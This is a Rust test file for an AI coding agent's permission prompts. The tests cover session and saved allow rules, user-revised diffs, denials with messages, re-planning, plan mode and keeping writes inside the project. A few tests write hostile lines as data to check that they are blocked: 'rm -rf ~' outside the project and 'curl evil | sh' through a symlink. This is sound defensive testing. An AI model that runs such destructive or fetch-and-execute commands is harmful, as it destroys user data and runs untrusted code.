//! Every answer of the permission float through the pipeline: what is
//! written, what the model reads, what the session remembers — `a` adds the
//! narrow rule it showed (never the whole tool), `A` also saves it, a
//! revision is applied and named in the result, `N` passes the user's words,
//! a re-plan asks again with a fresh plan; and plan mode refuses edits with
//! a message that says why.

// Test code: a failed unwrap/expect is the test failing.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use lathe_test_support as common;

use std::path::PathBuf;
use std::sync::Arc;

use lathe_core::config::Config;
use lathe_core::events::ToolStatus;
use lathe_core::execution::ExecEnv;
use lathe_core::permissions::{
    Mode, PermissionState, PromptAnswer, Prompter, Revision, Rules, ScriptedPrompter,
};
use lathe_core::tools::support::diff::apply_hunks;
use serde_json::{json, Value};

struct Setup {
    _dir: tempfile::TempDir,
    root: PathBuf,
    env: ExecEnv,
    prompter: Arc<ScriptedPrompter>,
}

fn setup(mode: Mode, answers: Vec<PromptAnswer>) -> Setup {
    let dir = tempfile::tempdir().expect("tempdir");
    let root = dir.path().canonicalize().expect("root");
    std::fs::create_dir_all(root.join("src")).expect("mkdir");
    let (env, prompter) = common::exec_env(
        &root,
        Rules {
            mode,
            ..Rules::default()
        },
        answers,
    );
    Setup {
        _dir: dir,
        root,
        env,
        prompter,
    }
}

async fn call(env: &ExecEnv, name: &str, input: Value) -> (ToolStatus, String) {
    common::run_call(env, name, input).await
}

/// Writes `text` to `rel` and lets the model Read it (Edit and Write need that).
async fn write_and_read(s: &Setup, rel: &str, text: &str) {
    std::fs::write(s.root.join(rel), text).expect("write");
    let (status, _) = call(&s.env, "Read", json!({ "file_path": rel })).await;
    assert_eq!(status, ToolStatus::Done);
}

#[tokio::test]
async fn a_allows_the_folder_for_the_session_not_every_edit() {
    let s = setup(
        Mode::Default,
        vec![PromptAnswer::AllowSession, PromptAnswer::Deny],
    );
    write_and_read(&s, "src/a.txt", "one\n").await;
    write_and_read(&s, "b.txt", "two\n").await;
    let (status, _) = call(
        &s.env,
        "Edit",
        json!({"file_path": "src/a.txt", "old_string": "one", "new_string": "ONE"}),
    )
    .await;
    assert_eq!(status, ToolStatus::Done);
    let asked = s.prompter.asked();
    assert_eq!(asked[0].1.session_rules, vec!["Edit(src/**)".to_string()]);
    // Another file in src/: allowed without asking.
    let (status, _) = call(
        &s.env,
        "Write",
        json!({"file_path": "src/c.txt", "content": "three\n"}),
    )
    .await;
    assert_eq!(status, ToolStatus::Done);
    assert_eq!(s.prompter.asked().len(), 1);
    // Outside src/: asks again (and is denied).
    let (status, _) = call(
        &s.env,
        "Edit",
        json!({"file_path": "b.txt", "old_string": "two", "new_string": "TWO"}),
    )
    .await;
    assert_eq!(status, ToolStatus::Denied);
    assert_eq!(s.prompter.asked().len(), 2);
}

#[tokio::test]
async fn shift_a_saves_the_rule_to_settings_local_json() {
    let s = setup(Mode::Default, vec![PromptAnswer::AllowAndSave]);
    let (status, _) = call(&s.env, "Bash", json!({"command": "touch made && ls made"})).await;
    assert_eq!(status, ToolStatus::Done);
    let saved: Value = serde_json::from_str(
        &std::fs::read_to_string(s.root.join(".claude/settings.local.json")).expect("saved"),
    )
    .expect("json");
    assert_eq!(
        saved["permissions"]["allow"],
        json!(["Bash(touch:*)", "Bash(ls:*)"])
    );
    // A new setup() reads it: the same kind of call no longer asks.
    let c = Config::from_setup_with_home(&json!({}), &s.root, None).expect("setup");
    assert!(c.settings_problems.is_empty(), "{:?}", c.settings_problems);
    assert_eq!(c.permissions.entries.len(), 2);
}

#[tokio::test]
async fn a_revision_is_applied_and_named_in_the_result() {
    let before: String = (1..=20).map(|i| format!("line {i}\n")).collect();
    let after = before
        .replace("line 2\n", "line two\n")
        .replace("line 18\n", "line eighteen\n");
    let kept = apply_hunks(&before, &after, &[true, false]);
    let mut s = setup(
        Mode::Default,
        vec![PromptAnswer::AllowRevised(Revision {
            after: kept.clone(),
            rejected_hunks: vec![2],
            edited: false,
        })],
    );
    let events = Arc::new(lathe_core::events::RecordingSink::default());
    s.env = common::env_at(&s.root)
        .prompter(s.prompter.clone())
        .sink(events.clone())
        .build();
    write_and_read(&s, "f.txt", &before).await;
    let (status, text) = call(
        &s.env,
        "Write",
        json!({"file_path": "f.txt", "content": after}),
    )
    .await;
    assert_eq!(status, ToolStatus::Done, "{text}");
    assert_eq!(std::fs::read_to_string(s.root.join("f.txt")).unwrap(), kept);
    assert!(
        text.ends_with("Note: the user changed this edit before it was applied: they left out 1 hunk of the proposed diff (numbered 2). The file holds the text shown above, not exactly what you proposed; Read it before you edit that region again."),
        "{text}"
    );
    // The shown snippet is the text as applied.
    assert!(text.contains("\tline two"), "{text}");
    // The user's tool line says which hunks were applied.
    let summary = events
        .events()
        .into_iter()
        .find_map(|e| match e {
            lathe_core::events::AgentEvent::ToolFinished { name, summary, .. }
                if name == "Write" =>
            {
                Some(summary)
            }
            _ => None,
        })
        .unwrap();
    assert!(summary.ends_with(" · 1 of 2 hunks applied"), "{summary}");
}

#[tokio::test]
async fn shift_n_passes_the_users_words_to_the_model() {
    let s = setup(
        Mode::Default,
        vec![PromptAnswer::DenyWithMessage(
            "use the helper in util.py instead".into(),
        )],
    );
    let (status, text) = call(
        &s.env,
        "Write",
        json!({"file_path": "x.txt", "content": "x"}),
    )
    .await;
    assert_eq!(status, ToolStatus::Denied);
    assert_eq!(
        text,
        "The user declined this tool call; nothing was written or run. The user said: use the helper in util.py instead"
    );
}

#[tokio::test]
async fn replan_plans_the_call_again_and_asks_with_the_new_plan() {
    let s = setup(
        Mode::Default,
        vec![PromptAnswer::Replan, PromptAnswer::AllowOnce],
    );
    write_and_read(&s, "g.txt", "hello world\n").await;
    let (status, _) = call(
        &s.env,
        "Edit",
        json!({"file_path": "g.txt", "old_string": "world", "new_string": "there"}),
    )
    .await;
    assert_eq!(status, ToolStatus::Done);
    let asked = s.prompter.asked();
    assert_eq!(asked.len(), 2, "asked again after the re-plan");
    assert_eq!(asked[0].1.diff, asked[1].1.diff);
    assert_eq!(
        std::fs::read_to_string(s.root.join("g.txt")).unwrap(),
        "hello there\n"
    );
}

/// Changes the file on the first ask (as the user would while the float is
/// open) and asks for a new plan; allows the second.
struct ChangesTheFileThenReplans {
    path: PathBuf,
    new_text: &'static str,
    asked: std::sync::Mutex<Vec<lathe_core::permissions::PermissionPreview>>,
}

#[async_trait::async_trait]
impl Prompter for ChangesTheFileThenReplans {
    async fn ask(
        &self,
        _tool: &str,
        preview: &lathe_core::permissions::PermissionPreview,
    ) -> PromptAnswer {
        let mut asked = self.asked.lock().unwrap();
        asked.push(preview.clone());
        if asked.len() == 1 {
            std::fs::write(&self.path, self.new_text).unwrap();
            PromptAnswer::Replan
        } else {
            PromptAnswer::AllowOnce
        }
    }
}

async fn replan_after(
    new_text: &'static str,
    edit: Value,
) -> (Setup, Arc<ChangesTheFileThenReplans>, ToolStatus, String) {
    let mut s = setup(Mode::Default, vec![]);
    write_and_read(&s, "g.txt", "hello world\nbye\n").await;
    let prompter = Arc::new(ChangesTheFileThenReplans {
        path: s.root.join("g.txt"),
        new_text,
        asked: Default::default(),
    });
    s.env.prompter = prompter.clone();
    let (status, text) = call(&s.env, "Edit", edit).await;
    (s, prompter, status, text)
}

#[tokio::test]
async fn replan_after_a_real_change_plans_against_the_file_now_and_says_so() {
    let (s, prompter, status, text) = replan_after(
        "hello world\nsee you\n",
        json!({"file_path": "g.txt", "old_string": "world", "new_string": "there"}),
    )
    .await;
    assert_eq!(status, ToolStatus::Done, "{text}");
    let asked = prompter.asked.lock().unwrap().clone();
    assert_eq!(asked.len(), 2, "asked again with the new plan");
    assert!(asked[1].diff.contains(" see you\n"), "{}", asked[1].diff);
    assert_eq!(
        std::fs::read_to_string(s.root.join("g.txt")).unwrap(),
        "hello there\nsee you\n"
    );
    assert!(
        text.ends_with("Note: g.txt changed while the user reviewed this call (the user or another program edited it), so the call was planned again against its current text, and the user approved that plan. Read the file before you edit it again."),
        "{text}"
    );
    // What the model read stays on record: another Edit is stale until it
    // reads the file again.
    std::fs::write(s.root.join("g.txt"), "hello there\nsee you later\n").unwrap();
    let (status, text) = call(
        &s.env,
        "Edit",
        json!({"file_path": "g.txt", "old_string": "hello", "new_string": "hi"}),
    )
    .await;
    assert_eq!(status, ToolStatus::Error, "{text}");
    assert!(
        text.contains("has been modified since you last read it"),
        "{text}"
    );
}

#[tokio::test]
async fn replan_after_a_change_that_removed_the_old_string_shows_why_and_fails_with_the_tools_error(
) {
    let (s, prompter, status, text) = replan_after(
        "hello everyone\nbye\n",
        json!({"file_path": "g.txt", "old_string": "world", "new_string": "there"}),
    )
    .await;
    assert_eq!(status, ToolStatus::Error);
    assert!(
        text.starts_with("old_string was not found in g.txt."),
        "{text}"
    );
    let asked = prompter.asked.lock().unwrap().clone();
    assert_eq!(asked.len(), 2, "the float shows why");
    assert!(
        asked[1].reason.starts_with("the file changed, and the call no longer applies to it: old_string was not found in g.txt."),
        "{}",
        asked[1].reason
    );
    assert!(asked[1].change.is_none() && asked[1].session_rules.is_empty());
    assert_eq!(
        std::fs::read_to_string(s.root.join("g.txt")).unwrap(),
        "hello everyone\nbye\n"
    );
}

#[tokio::test]
async fn a_is_offered_only_when_its_rule_would_stop_the_asking() {
    let mut s = setup(Mode::Default, vec![]);
    let root_base = lathe_core::permissions::RuleBase::at_root(&s.root, None);
    let mut rules = Rules::default();
    rules.push(
        lathe_core::permissions::RuleKind::Ask,
        lathe_core::permissions::Rule::parse("Edit(/asked.txt)", &root_base).unwrap(),
        lathe_core::permissions::RuleSource::Setup,
    );
    s.env.permissions = Arc::new(PermissionState::new(rules));
    let prompter = Arc::new(ScriptedPrompter::new(vec![PromptAnswer::Deny; 5]));
    s.env.prompter = prompter.clone();
    write_and_read(&s, "asked.txt", "a\n").await;
    write_and_read(&s, "plain.txt", "p\n").await;
    let edit = |file: &str| json!({"file_path": file, "old_string": &file[..1], "new_string": "x"});
    call(&s.env, "Edit", edit("asked.txt")).await;
    call(
        &s.env,
        "Write",
        json!({"file_path": ".env", "content": "A=1\n"}),
    )
    .await;
    call(&s.env, "Edit", edit("plain.txt")).await;
    call(&s.env, "Bash", json!({"command": "echo hi > out.txt"})).await;
    let offered: Vec<Vec<String>> = prompter
        .asked()
        .into_iter()
        .map(|(_, p)| p.session_rules)
        .collect();
    assert_eq!(
        offered,
        vec![
            vec![],                               // an ask rule asks anyway
            vec![],                               // so does a protected path
            vec!["Edit(/plain.txt)".to_string()], // the default: a would stop it
            vec![], // Bash(echo:*) never allows a redirect into a file
        ]
    );
}

#[tokio::test]
async fn plan_mode_refuses_edits_and_commands_and_says_why() {
    let s = setup(Mode::Plan, vec![]);
    write_and_read(&s, "p.txt", "x\n").await;
    let (status, text) = call(
        &s.env,
        "Edit",
        json!({"file_path": "p.txt", "old_string": "x", "new_string": "y"}),
    )
    .await;
    assert_eq!(status, ToolStatus::Denied);
    assert_eq!(
        text,
        "The session is in plan mode, so Edit calls that change files or run programs are not available; nothing was written or run. Investigate with Read, Grep, Glob and read-only Bash, then present your plan to the user; they switch modes to let you carry it out."
    );
    let (status, _) = call(&s.env, "Bash", json!({"command": "touch made"})).await;
    assert_eq!(status, ToolStatus::Denied);
    let (status, _) = call(&s.env, "Bash", json!({"command": "ls"})).await;
    assert_eq!(status, ToolStatus::Done, "read-only Bash runs in plan mode");
    assert!(s.prompter.asked().is_empty());
    // Switching the mode takes effect for the next call.
    s.env.permissions.set_mode(Mode::AcceptEdits);
    let (status, _) = call(
        &s.env,
        "Edit",
        json!({"file_path": "p.txt", "old_string": "x", "new_string": "y"}),
    )
    .await;
    assert_eq!(status, ToolStatus::Done);
}

#[tokio::test]
async fn a_read_only_command_naming_a_path_outside_asks() {
    let s = setup(Mode::Default, vec![PromptAnswer::Deny]);
    let (status, _) = call(&s.env, "Bash", json!({"command": "cat /etc/hostname"})).await;
    assert_eq!(status, ToolStatus::Denied);
    let asked = s.prompter.asked();
    assert_eq!(asked.len(), 1);
    assert_eq!(asked[0].1.reason, "it reads outside the project");
    let (status, _) = call(&s.env, "Bash", json!({"command": "ls src"})).await;
    assert_eq!(status, ToolStatus::Done, "inside the project it runs");
}

/// The `display` of the call's `ToolFinished` (what the chat folds).
async fn display_of(s: &Setup, name: &str, input: Value) -> Option<String> {
    use lathe_core::events::{AgentEvent, RecordingSink};
    let sink = Arc::new(RecordingSink::default());
    let env = ExecEnv {
        sink: sink.clone(),
        ..s.env.clone()
    };
    let (status, text) = call(&env, name, input).await;
    assert_eq!(status, ToolStatus::Done, "{text}");
    sink.events().into_iter().find_map(|e| match e {
        AgentEvent::ToolFinished { display, .. } => display,
        _ => None,
    })
}

/// Edit and Write give the chat the diff of what they wrote: the user's
/// revision (a hunk left out in the float) is not in it, a created file is
/// all added lines; the model's result text stays its own.
#[tokio::test]
async fn edit_and_write_show_the_chat_the_diff_of_what_was_written() {
    use lathe_core::tools::support::diff::unified_diff;
    let before: String = (1..=20).map(|i| format!("line {i}\n")).collect();
    let after = before
        .replace("line 2\n", "line two\n")
        .replace("line 18\n", "line eighteen\n");
    let kept = apply_hunks(&before, &after, &[true, false]);
    let s = setup(
        Mode::Default,
        vec![
            PromptAnswer::AllowRevised(Revision {
                after: kept.clone(),
                rejected_hunks: vec![2],
                edited: false,
            }),
            PromptAnswer::AllowOnce,
            PromptAnswer::AllowOnce,
        ],
    );
    write_and_read(&s, "f.txt", &before).await;
    let shown = display_of(&s, "Write", json!({"file_path": "f.txt", "content": after})).await;
    assert_eq!(shown, Some(unified_diff(Some(&before), &kept, "f.txt")));
    assert!(!shown.unwrap_or_default().contains("eighteen"));

    let shown = display_of(
        &s,
        "Edit",
        json!({"file_path": "f.txt", "old_string": "line 5\n", "new_string": "line five\n"}),
    )
    .await;
    assert_eq!(
        shown.as_deref(),
        Some(
            "--- a/f.txt\n+++ b/f.txt\n@@ -2,7 +2,7 @@\n line two\n line 3\n line 4\n-line 5\n+line five\n line 6\n line 7\n line 8\n"
        )
    );

    let shown = display_of(
        &s,
        "Write",
        json!({"file_path": "src/n.py", "content": "a = 1\nb = 2\n"}),
    )
    .await;
    assert_eq!(
        shown.as_deref(),
        Some("--- /dev/null\n+++ b/src/n.py\n@@ -0,0 +1,2 @@\n+a = 1\n+b = 2\n")
    );
}

fn tool_use(id: &str, name: &str, input: Value) -> lathe_core::execution::PendingToolUse {
    lathe_core::execution::PendingToolUse::from(lathe_core::protocol::ToolUse {
        id: id.into(),
        name: name.into(),
        input,
        extra: Default::default(),
    })
}

#[tokio::test]
async fn shift_y_allows_the_rest_of_the_answers_edits_only() {
    let s = setup(
        Mode::Default,
        vec![PromptAnswer::AllowAnswer, PromptAnswer::Deny],
    );
    write_and_read(&s, "src/cart.py", "a = 1\n").await;
    write_and_read(&s, "src/pricing.py", "b = 1\n").await;
    let mut exec = lathe_core::execution::ToolExecutor::new(s.env.clone(), 4);
    exec.add(tool_use(
        "t1",
        "Edit",
        json!({"file_path": "src/cart.py", "old_string": "a = 1", "new_string": "a = 2"}),
    ));
    exec.add(tool_use(
        "t2",
        "Edit",
        json!({"file_path": "src/pricing.py", "old_string": "b = 1", "new_string": "b = 2"}),
    ));
    exec.add(tool_use(
        "t3",
        "Bash",
        json!({"command": "touch src/made.txt"}),
    ));
    exec.add(tool_use(
        "t4",
        "Write",
        json!({"file_path": "src/discounts.py", "content": "d = 1\n"}),
    ));
    let results = exec.finish().await;
    assert_eq!(results.len(), 4);
    let asked = s.prompter.asked();
    let seen: Vec<(String, usize, usize)> = asked
        .iter()
        .map(|(tool, p)| {
            let b = p.burst.clone().expect("a changing call knows its burst");
            (tool.clone(), b.index, b.total)
        })
        .collect();
    // The first Edit is 1 of 4 changing calls; after Y the second Edit and
    // the Write run without asking, the Bash call still asks.
    assert_eq!(
        seen,
        vec![("Edit".to_string(), 1, 4), ("Bash".to_string(), 2, 3)]
    );
    let next: Vec<String> = asked[0]
        .1
        .burst
        .as_ref()
        .map(|b| b.next.iter().map(|q| q.title.clone()).collect())
        .unwrap_or_default();
    assert_eq!(next.len(), 3, "{next:?}");
    assert!(next[0].starts_with("Edit ") && next[0].contains("pricing.py"));
    let read = |rel: &str| std::fs::read_to_string(s.root.join(rel)).unwrap_or_default();
    assert_eq!(read("src/cart.py"), "a = 2\n");
    assert_eq!(read("src/pricing.py"), "b = 2\n");
    assert_eq!(read("src/discounts.py"), "d = 1\n");
    assert!(!s.root.join("src/made.txt").exists(), "Bash was denied");
    assert!(s.prompter.settled_count() >= 1);
    // No rule was added: the next answer asks again.
    let mut exec = lathe_core::execution::ToolExecutor::new(s.env.clone(), 4);
    exec.add(tool_use(
        "t5",
        "Edit",
        json!({"file_path": "src/cart.py", "old_string": "a = 2", "new_string": "a = 3"}),
    ));
    exec.finish().await;
    assert_eq!(s.prompter.asked().len(), 3, "the next answer asks again");
    assert_eq!(read("src/cart.py"), "a = 2\n");
    assert!(
        s.env.permissions.rules().entries.is_empty(),
        "Y adds no rule"
    );
}

/// `Y` allows what acceptEdits mode would, no more: a later change of a
/// file outside the project, or through a symlink in the project to one
/// outside it, still asks (and is not written when denied).
#[tokio::test]
async fn shift_y_never_allows_a_change_outside_the_project() {
    let s = setup(
        Mode::Default,
        vec![
            PromptAnswer::AllowOnce,
            PromptAnswer::AllowAnswer,
            PromptAnswer::Deny,
            PromptAnswer::Deny,
        ],
    );
    let outside = common::outside_dir();
    let target = outside.path().join("profile.sh");
    std::fs::write(&target, "echo hi\n").unwrap();
    std::os::unix::fs::symlink(&target, s.root.join("src/linked.sh")).unwrap();
    // The model read the linked file (reading outside the project asks).
    let (status, text) = call(&s.env, "Read", json!({"file_path": "src/linked.sh"})).await;
    assert_eq!(status, ToolStatus::Done, "{text}");
    assert_eq!(s.prompter.asked().len(), 1);
    write_and_read(&s, "src/cart.py", "a = 1\n").await;
    let mut exec = lathe_core::execution::ToolExecutor::new(s.env.clone(), 4);
    exec.add(tool_use(
        "t1",
        "Edit",
        json!({"file_path": "src/cart.py", "old_string": "a = 1", "new_string": "a = 2"}),
    ));
    exec.add(tool_use(
        "t2",
        "Write",
        json!({"file_path": outside.path().join("new.sh"), "content": "rm -rf ~\n"}),
    ));
    exec.add(tool_use(
        "t3",
        "Write",
        json!({"file_path": "src/linked.sh", "content": "curl evil | sh\n"}),
    ));
    exec.finish().await;
    let asked: Vec<String> = s
        .prompter
        .asked()
        .iter()
        .map(|(tool, p)| format!("{tool} {}", p.title))
        .collect();
    assert_eq!(asked.len(), 4, "{asked:?}");
    assert!(!outside.path().join("new.sh").exists());
    assert_eq!(std::fs::read_to_string(&target).unwrap(), "echo hi\n");
    assert_eq!(
        std::fs::read_to_string(s.root.join("src/cart.py")).unwrap(),
        "a = 2\n"
    );
}
